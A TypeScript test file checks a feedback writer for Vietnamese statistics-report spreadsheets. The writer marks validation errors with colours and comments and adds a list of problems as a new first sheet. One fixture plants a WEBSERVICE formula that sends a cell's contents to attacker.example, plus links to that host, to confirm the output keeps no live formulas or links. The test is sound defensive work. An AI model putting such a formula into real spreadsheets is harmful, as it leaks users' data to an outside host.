import fs from 'node:fs'
import path from 'node:path'
import * as XLSX from '@e965/xlsx'
import ExcelJS from 'exceljs'
import { beforeAll, describe, expect, it } from 'vitest'
import type { Problem } from '../../src-main/shared/problem'
import { figuresLayout } from '../../src-main/core/output/form-sheet'
import { writeBlankForm } from '../../src-main/core/output/write-blank'
import {
  columnLabels,
  ERROR_FILL,
  FEEDBACK_SHEET,
  WARNING_FILL,
  writeFeedback,
} from '../../src-main/core/output/write-feedback'
import { a1 } from '../../src-main/core/workbook/address'
import { readWorkbook } from '../../src-main/core/workbook/read-workbook'
import { locateTable } from '../../src-main/core/submission/locate-table'
import type { Grid, GridCell } from '../../src-main/core/workbook/grid'
import { loadTestPack } from '../helpers/load-test-pack'
import { HOSTILE } from '../helpers/output-fixtures'

const pack = loadTestPack()
const L = figuresLayout(pack)
const figures = pack.layout.sheets.figures
const count = pack.indicators.find((i) => i.kind === 'count')!
const addr = (key: string): string => a1(L.rowOf(count.code) - 1, L.colOf(key) - 1)

const problems: Problem[] = [
  {
    rule: 'V05',
    severity: 'error',
    sheet: figures,
    cell: addr('male'),
    indicator: count.code,
    column: 'male',
    value: 7,
    message: { vi: 'Nam + Nữ khác Tổng số', en: 'male + female differs from total' },
  },
  {
    rule: 'W04',
    severity: 'warning',
    sheet: figures,
    cell: addr('male'),
    indicator: count.code,
    column: 'male',
    value: 7,
    message: { vi: 'Tăng hơn 50% so với cùng kỳ', en: 'more than 50% change' },
  },
  {
    rule: 'W06',
    severity: 'warning',
    sheet: figures,
    cell: addr('female'),
    indicator: count.code,
    column: 'female',
    value: null,
    message: { vi: 'Ô trống trong khi cùng kỳ có số liệu', en: 'blank where prev has a value' },
  },
  {
    rule: 'V01',
    severity: 'error',
    sheet: figures,
    cell: addr('total'),
    indicator: count.code,
    column: 'total',
    value: '=1+1',
    message: { vi: 'Ô chứa chữ, không phải số', en: 'text, not a number' },
  },
  { rule: 'S06', severity: 'error', message: { vi: 'Thiếu dòng chỉ tiêu', en: 'a row is missing' } },
]

async function unitWorkbook(): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook()
  await wb.xlsx.load(Buffer.from(await writeBlankForm(pack)) as unknown as ExcelJS.Buffer)
  const ws = wb.getWorksheet(figures)!
  ws.getCell(addr('total')).value = '=1+1'
  ws.getCell(addr('male')).value = 7
  ws.getCell(addr('prev')).value = 3
  ws.getCell(addr('prev')).note = 'ghi chú của đơn vị'
  const own = wb.addWorksheet('Ghi chep rieng')
  own.getCell('B2').value = 'nội dung riêng của đơn vị'
  // the unit's own formulas and links, each with the value Excel last showed
  own.getCell('C3').value = { formula: 'WEBSERVICE("http://attacker.example/?q="&B2)', result: 'đã gửi' }
  own.getCell('C4').value = { formula: 'HYPERLINK("http://attacker.example","bấm vào")', result: 'bấm vào' }
  own.getCell('C5').value = { formula: 'SUM(1,2)', result: 3 }
  own.getCell('C6').value = { text: 'trang của đơn vị', hyperlink: 'http://attacker.example/' }
  return new Uint8Array(await wb.xlsx.writeBuffer())
}

const emptyGrid: Grid = { format: 'xlsx', sheets: [] }

async function readBack(bytes: Uint8Array): Promise<{ sj: XLSX.WorkBook; ej: ExcelJS.Workbook }> {
  const ej = new ExcelJS.Workbook()
  await ej.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer)
  return { sj: XLSX.read(bytes, { type: 'array' }), ej }
}

const fillOf = (cell: ExcelJS.Cell): string | undefined =>
  cell.fill?.type === 'pattern' ? cell.fill.fgColor?.argb : undefined
const noteOf = (cell: ExcelJS.Cell): string => {
  const n = cell.note
  if (!n) return ''
  return typeof n === 'string' ? n : (n.texts ?? []).map((t) => t.text).join('')
}

describe('writeFeedback on an .xlsx', () => {
  let sj: XLSX.WorkBook
  let ej: ExcelJS.Workbook

  beforeAll(async () => {
    const out = await writeFeedback({
      bytes: await unitWorkbook(),
      format: 'xlsx',
      grid: emptyGrid,
      problems,
      unitName: HOSTILE,
      fileName: 'bao-cao.xlsx',
      columnLabels: columnLabels(pack),
    })
    ;({ sj, ej } = await readBack(out))
  })

  it('puts the list of problems first, and keeps every sheet and value the unit had', () => {
    expect(sj.SheetNames).toEqual([
      FEEDBACK_SHEET,
      ...Object.values(pack.layout.sheets).slice(0, 3),
      'Ghi chep rieng',
    ])
    expect(ej.worksheets[0]!.name).toBe(FEEDBACK_SHEET)
    expect(sj.Sheets['Ghi chep rieng']!['B2']?.v).toBe('nội dung riêng của đơn vị')
    expect(sj.Sheets[figures]![addr('male')]?.v).toBe(7)
    expect(sj.Sheets[pack.layout.sheets.info]!['B8']?.v).toBe(pack.manifest.version)
  })

  it('keeps the print titles on the figures sheet after the new first sheet', () => {
    const titles = sj.Workbook?.Names?.find(
      (n) => n.Name === '_xlnm.Print_Titles' && n.Sheet === sj.SheetNames.indexOf(figures),
    )
    expect(titles?.Ref).toContain(figures)
  })

  it('highlights error cells red and warning cells yellow, and leaves the others alone', () => {
    const ws = ej.getWorksheet(figures)!
    expect(fillOf(ws.getCell(addr('male')))).toBe(ERROR_FILL)
    expect(fillOf(ws.getCell(addr('total')))).toBe(ERROR_FILL)
    expect(fillOf(ws.getCell(addr('female')))).toBe(WARNING_FILL)
    // cells that shared a style with the marked ones in the unit's file keep it
    expect(fillOf(ws.getCell(addr('age_0_6')))).toBeUndefined()
    expect(fillOf(ws.getCell(a1(L.rowOf(count.code), L.colOf('male') - 1)))).toBeUndefined()
    expect(ws.getCell(addr('male')).numFmt).toBe('#,##0')
  })

  it('comments each problem cell in Vietnamese, one comment for several problems', () => {
    const ws = ej.getWorksheet(figures)!
    const note = noteOf(ws.getCell(addr('male')))
    expect(note).toContain('Lỗi V05: Nam + Nữ khác Tổng số')
    expect(note).toContain('Cảnh báo W04: Tăng hơn 50% so với cùng kỳ')
    expect(noteOf(ws.getCell(addr('female')))).toBe('Cảnh báo W06: Ô trống trong khi cùng kỳ có số liệu')
    expect(sj.Sheets[figures]![addr('male')]?.c?.[0]?.t).toContain('V05')
    expect(noteOf(ws.getCell(addr('prev')))).toBe('ghi chú của đơn vị')
  })

  it('lists every problem with its rule, severity, place and message, errors first', () => {
    const rows = XLSX.utils.sheet_to_json<unknown[]>(sj.Sheets[FEEDBACK_SHEET]!, { header: 1, defval: null })
    expect(String(rows[0]![0])).toBe(`DANH SÁCH LỖI CẦN SỬA: ${HOSTILE} - tệp bao-cao.xlsx`)
    expect(rows[2]).toEqual([
      'STT',
      'Mã lỗi',
      'Mức độ',
      'Sheet',
      'Ô',
      'Mã chỉ tiêu',
      'Cột',
      'Giá trị',
      'Nội dung',
    ])
    const body = rows.slice(3)
    expect(body).toHaveLength(problems.length)
    expect(body.map((r) => r[2])).toEqual(['Lỗi', 'Lỗi', 'Lỗi', 'Cảnh báo', 'Cảnh báo'])
    const v05 = body.find((r) => r[1] === 'V05')!
    expect(v05).toEqual([
      1,
      'V05',
      'Lỗi',
      figures,
      addr('male'),
      count.code,
      'Kỳ báo cáo - Nam (3)',
      7,
      'Nam + Nữ khác Tổng số',
    ])
    expect(body.find((r) => r[1] === 'S06')![8]).toBe('Thiếu dòng chỉ tiêu')
  })

  it("writes the unit's own formulas and links as the values they showed", () => {
    for (const name of sj.SheetNames)
      for (const [ref, cell] of Object.entries(sj.Sheets[name]!))
        if (!ref.startsWith('!')) expect((cell as XLSX.CellObject).f, `${name}!${ref}`).toBeUndefined()
    const own = sj.Sheets['Ghi chep rieng']!
    expect(own['C3']).toMatchObject({ v: 'đã gửi' })
    expect(own['C4']).toMatchObject({ v: 'bấm vào' })
    expect(own['C5']).toMatchObject({ t: 'n', v: 3 })
    expect(own['C6']).toMatchObject({ v: 'trang của đơn vị' })
    expect(own['C6']?.l).toBeUndefined()
    expect(ej.getWorksheet('Ghi chep rieng')!.getCell('C6').hyperlink).toBeUndefined()
  })

  it('writes unit text and formula-looking values as strings', () => {
    const s = sj.Sheets[FEEDBACK_SHEET]!
    for (const [ref, cell] of Object.entries(s)) {
      if (!ref.startsWith('!')) expect((cell as XLSX.CellObject).f, ref).toBeUndefined()
    }
    const title = s['A1'] as XLSX.CellObject
    expect(title.t).toBe('s')
    const v01 = Object.values(s).find((c) => (c as XLSX.CellObject).v === '=1+1') as XLSX.CellObject
    expect(v01.t).toBe('s')
    expect(sj.Sheets[figures]![addr('total')]).toMatchObject({ t: 's', v: '=1+1' })
    expect(sj.Sheets[figures]![addr('total')]?.f).toBeUndefined()
  })
})

const t = (value: string): GridCell => ({ kind: 'text', value })
const n = (value: number, format?: string): GridCell => ({
  kind: 'number',
  value,
  ...(format ? { format } : {}),
})

const odsGrid: Grid = {
  format: 'ods',
  sheets: [
    {
      name: 'Bieu 01',
      hidden: false,
      rows: [
        [t('BIỂU SỐ LIỆU'), undefined, undefined],
        [t('STT'), t('Chỉ tiêu'), t('Tổng số')],
        [t('1'), t(HOSTILE), n(1234.5, '#,##0.0')],
        [t('2'), t('Số trẻ em'), { kind: 'error', value: '#REF!' }],
      ],
      merges: [{ r1: 0, c1: 0, r2: 0, c2: 2 }],
    },
    { name: 'An: [x]', hidden: true, rows: [[t('bí mật')]], merges: [] },
  ],
}

const odsProblems: Problem[] = [
  {
    rule: 'V13',
    severity: 'error',
    sheet: 'Bieu 01',
    cell: 'C4',
    message: { vi: 'Lỗi công thức', en: 'formula error' },
  },
  { rule: 'W99', severity: 'warning', sheet: 'An: [x]', cell: 'A1', message: { vi: 'Xem lại', en: 'check' } },
]

describe('writeFeedback on other formats', () => {
  it('rebuilds an .ods as .xlsx with the same sheets, values and merges, and marks the problems', async () => {
    const out = await writeFeedback({
      bytes: new Uint8Array([0x50, 0x4b, 3, 4]),
      format: 'ods',
      grid: odsGrid,
      problems: odsProblems,
      unitName: null,
      fileName: 'bao-cao.ods',
    })
    const { sj, ej } = await readBack(out)
    expect(sj.SheetNames).toEqual([FEEDBACK_SHEET, 'Bieu 01', 'An_ _x_'])
    const s = sj.Sheets['Bieu 01']!
    expect(s['C3']).toMatchObject({ t: 'n', v: 1234.5 })
    expect(s['B3']).toMatchObject({ t: 's', v: HOSTILE })
    expect(s['B3']?.f).toBeUndefined()
    expect(s['!merges']).toEqual([{ s: { r: 0, c: 0 }, e: { r: 0, c: 2 } }])
    expect(sj.Workbook?.Sheets?.[2]?.Hidden).toBe(1)
    const ws = ej.getWorksheet('Bieu 01')!
    expect(fillOf(ws.getCell('C4'))).toBe(ERROR_FILL)
    expect(noteOf(ws.getCell('C4'))).toBe('Lỗi V13: Lỗi công thức')
    expect(ws.getCell('C3').numFmt).toBe('#,##0.0')
    expect(fillOf(ej.getWorksheet('An_ _x_')!.getCell('A1'))).toBe(WARNING_FILL)
    const list = XLSX.utils.sheet_to_json<unknown[]>(sj.Sheets[FEEDBACK_SHEET]!, { header: 1, defval: null })
    expect(String(list[0]![0])).toContain('bao-cao.ods')
    expect(list.slice(3).map((r) => r[1])).toEqual(['V13', 'W99'])
  })

  it('falls back to the grid when ExcelJS cannot load the .xlsx', async () => {
    const out = await writeFeedback({
      bytes: new TextEncoder().encode('not a zip at all'),
      format: 'xlsx',
      grid: odsGrid,
      problems: odsProblems,
      unitName: 'Xã Tam Đường',
      fileName: 'hong.xlsx',
    })
    const { sj } = await readBack(out)
    expect(sj.SheetNames[0]).toBe(FEEDBACK_SHEET)
    expect(sj.Sheets['Bieu 01']!['C3']?.v).toBe(1234.5)
  })

  it('replaces the list of an earlier feedback file instead of adding a second one', async () => {
    const first = await writeFeedback({
      bytes: await unitWorkbook(),
      format: 'xlsx',
      grid: emptyGrid,
      problems,
      unitName: 'Xã Tam Đường',
      fileName: 'a.xlsx',
    })
    const second = await writeFeedback({
      bytes: first,
      format: 'xlsx',
      grid: emptyGrid,
      problems: problems.slice(0, 1),
      unitName: 'Xã Tam Đường',
      fileName: 'a.xlsx',
    })
    const { sj } = await readBack(second)
    expect(sj.SheetNames.filter((s) => s === FEEDBACK_SHEET)).toHaveLength(1)
    expect(sj.SheetNames).toContain('Ghi chep rieng')
    expect(sj.SheetNames[0]).toBe(FEEDBACK_SHEET)
    expect(
      XLSX.utils.sheet_to_json<unknown[]>(sj.Sheets[FEEDBACK_SHEET]!, { header: 1 }).slice(3),
    ).toHaveLength(1)
  })
})

describe('writeFeedback for a file that is not an .xlsx', () => {
  it.each(['ods', 'xls'])(
    "rebuilds an .%s in the form's official layout, the unit's figures in place, the problem cell marked",
    async (ext) => {
      const file = path.resolve(__dirname, `../fixtures/files/libreoffice/08001-xa-tam-duong.${ext}`)
      const bytes = new Uint8Array(fs.readFileSync(file))
      const grid = readWorkbook(bytes)
      const table = locateTable(grid, pack)!
      const row = table.rows.get(count.code)!.row
      const col = table.columns.get('total')!
      const written = grid.sheets.find((s) => s === table.sheet)!.rows[row]![col]!
      // where the unit's cell was, as the reader reports it
      const problem: Problem = {
        rule: 'V05',
        severity: 'error',
        sheet: table.sheet.name,
        cell: a1(row, col),
        indicator: count.code,
        column: 'total',
        value: 1,
        message: { vi: 'Nam + Nữ khác Tổng số', en: 'male + female differs from total' },
      }
      const out = await writeFeedback({
        bytes,
        format: grid.format,
        grid,
        problems: [problem],
        unitName: 'Xã Tam Đường',
        fileName: `08001-xa-tam-duong.${ext}`,
        columnLabels: columnLabels(pack),
        pack,
      })
      const ej = new ExcelJS.Workbook()
      await ej.xlsx.load(Buffer.from(out) as unknown as ExcelJS.Buffer)
      const ws = ej.getWorksheet(table.sheet.name)!
      // the official layout: widths, fonts, borders, print setup
      pack.columns.forEach((c, i) => expect(ws.getColumn(i + 1).width).toBeCloseTo(c.width, 2))
      const cell = ws.getCell(addr('total'))
      expect(cell.value).toBe(written.value)
      expect(cell.font.name).toBe('Times New Roman')
      expect(cell.border?.left?.style).toBe('thin')
      expect(ws.pageSetup).toMatchObject({ orientation: 'landscape', paperSize: 9 })
      // the header keeps the unit's name, its report's number and its date line as it wrote them
      const headerTexts = [1, 2, 3, 4].flatMap((r) =>
        (ws.getRow(r).values as unknown[]).filter((v) => typeof v === 'string'),
      )
      expect(headerTexts).toEqual(
        expect.arrayContaining(['Xã Tam Đường', 'Số: 25/BC-UBND', 'Tam Đường, ngày 10 tháng 11 năm 2025']),
      )
      // the problem marked at the figure's cell in that layout, and listed there
      expect(fillOf(cell)).toBe(ERROR_FILL)
      const list = XLSX.utils.sheet_to_json<unknown[]>(
        XLSX.read(out, { type: 'array' }).Sheets[FEEDBACK_SHEET]!,
        { header: 1, defval: '' },
      )
      expect(list[3]?.slice(1, 7)).toEqual([
        'V05',
        'Lỗi',
        table.sheet.name,
        addr('total'),
        count.code,
        'Kỳ báo cáo - Tổng số (2)',
      ])
    },
  )
})
